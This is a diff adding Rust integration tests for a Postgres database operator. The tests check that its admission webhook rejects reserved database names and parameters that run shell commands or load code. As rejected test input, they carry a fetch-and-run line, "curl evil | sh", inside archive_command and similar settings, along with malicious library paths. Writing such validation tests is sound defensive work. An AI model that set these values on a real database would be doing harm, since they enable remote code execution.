@@ -188,3 +188,140 @@ async fn apiserver_rejects_bad_relays() -> Result<()> {
     assert!(msg.contains("may not override enable.idempotence"), "{msg}");
     Ok(())
 }
+
+fn external(name: &str, service: &str) -> Value {
+    json!({
+        "apiVersion": "servicedb.io/v1alpha1", "kind": "ServiceDatabase",
+        "metadata": {"name": name},
+        "spec": {
+            "owner": {"service": service},
+            "instance": {"external": {"host": "pg.internal", "adminSecretRef": {"name": "a"}}},
+        }
+    })
+}
+
+#[tokio::test]
+async fn apiserver_refuses_reserved_database_names() -> Result<()> {
+    harness::install_crds().await?;
+    let ns = support::TestNamespace::new("adm-reserved").await?;
+    for name in ["postgres", "template0", "template1"] {
+        let mut obj = managed(&format!("db-{name}"));
+        obj["spec"]["database"] = json!({"name": name});
+        let msg = rejection(apply(&ns, &obj).await);
+        assert!(
+            msg.contains("the database name") && msg.contains("is reserved"),
+            "{name}: {msg}"
+        );
+        let mut ext = external(&format!("ext-{name}"), "orders");
+        ext["spec"]["database"] = json!({"name": name});
+        rejection(apply(&ns, &ext).await);
+    }
+    // The derived name counts: owner.service `postgres` without database.name is `postgres`.
+    let msg = rejection(apply(&ns, &external("derived", "postgres")).await);
+    assert!(msg.contains("is reserved"), "{msg}");
+
+    // The external admin's own database, whatever it is called.
+    let mut admin_db = external("admindb", "orders");
+    admin_db["spec"]["instance"]["external"]["adminDatabase"] = json!("platform");
+    admin_db["spec"]["database"] = json!({"name": "platform"});
+    let msg = rejection(apply(&ns, &admin_db).await);
+    assert!(
+        msg.contains("admin database (instance.external.adminDatabase)"),
+        "{msg}"
+    );
+    let mut derived_admin = external("derivedadmin", "platform");
+    derived_admin["spec"]["instance"]["external"]["adminDatabase"] = json!("platform");
+    rejection(apply(&ns, &derived_admin).await);
+
+    // Names that merely look alike are fine: `template-1` derives `template_1`.
+    apply(&ns, &external("lookalike", "template-1")).await?;
+    let mut other = external("otheradmin", "orders");
+    other["spec"]["instance"]["external"]["adminDatabase"] = json!("platform");
+    apply(&ns, &other).await?;
+    Ok(())
+}
+
+#[tokio::test]
+async fn apiserver_refuses_parameters_that_run_commands_or_load_code() -> Result<()> {
+    harness::install_crds().await?;
+    let ns = support::TestNamespace::new("adm-params").await?;
+    let with = |params: Value| {
+        let mut obj = managed("params");
+        obj["spec"]["instance"]["managed"]["parameters"] = params;
+        obj
+    };
+    for key in [
+        "archive_command",
+        "ssl_passphrase_command",
+        "restore_command",
+        "local_preload_libraries",
+        "session_preload_libraries",
+        "dynamic_library_path",
+        "jit_provider",
+    ] {
+        let msg = rejection(apply(&ns, &with(json!({key: "/bin/sh -c 'curl evil | sh'"}))).await);
+        assert!(
+            msg.contains(&format!("parameters may not set {key}"))
+                && msg.contains("run shell commands or load code"),
+            "{key}: {msg}"
+        );
+    }
+    for value in ["/tmp/evil.so", "$libdir/evil", "pg_stat_statements,/tmp/x"] {
+        let msg = rejection(apply(&ns, &with(json!({"shared_preload_libraries": value}))).await);
+        assert!(
+            msg.contains(
+                "shared_preload_libraries must be a comma-separated list of plain library names"
+            ),
+            "{value}: {msg}"
+        );
+    }
+    for key in [
+        "fsync",
+        "search_path",
+        "log_directory",
+        "primary_conninfo",
+        "no_such_thing",
+    ] {
+        let msg = rejection(apply(&ns, &with(json!({key: "x", "work_mem": "4MB"}))).await);
+        assert!(
+            msg.contains(&format!("parameters not allowed: {key}."))
+                && msg.contains("only ordinary tuning settings"),
+            "{key}: {msg}"
+        );
+    }
+    let msg = rejection(apply(&ns, &with(json!({"ssl_min_protocol_version": "TLSv1.3"}))).await);
+    assert!(
+        msg.contains("may not override keys the operator owns: ssl_min_protocol_version"),
+        "{msg}"
+    );
+
+    // Ordinary settings, and plain preload names (the operator decides which), are admitted.
+    apply(
+        &ns,
+        &with(json!({
+            "max_connections": "200", "work_mem": "8MB",
+            "shared_preload_libraries": "pg_stat_statements, auto_explain"
+        })),
+    )
+    .await?;
+    Ok(())
+}
+
+#[tokio::test]
+async fn apiserver_admits_every_allow_listed_parameter() -> Result<()> {
+    harness::install_crds().await?;
+    let ns = support::TestNamespace::new("adm-allowed").await?;
+    let allowed = servicedb::api::parameters::ALLOWED_PARAMETERS;
+    for (i, chunk) in allowed.chunks(60).enumerate() {
+        let params: serde_json::Map<String, Value> = chunk
+            .iter()
+            .map(|k| (k.to_string(), json!("pg_stat_statements")))
+            .collect();
+        let mut obj = managed(&format!("allowed-{i}"));
+        obj["spec"]["instance"]["managed"]["parameters"] = Value::Object(params);
+        apply(&ns, &obj)
+            .await
+            .map_err(|e| anyhow::anyhow!("chunk {i}: {e}"))?;
+    }
+    Ok(())
+}
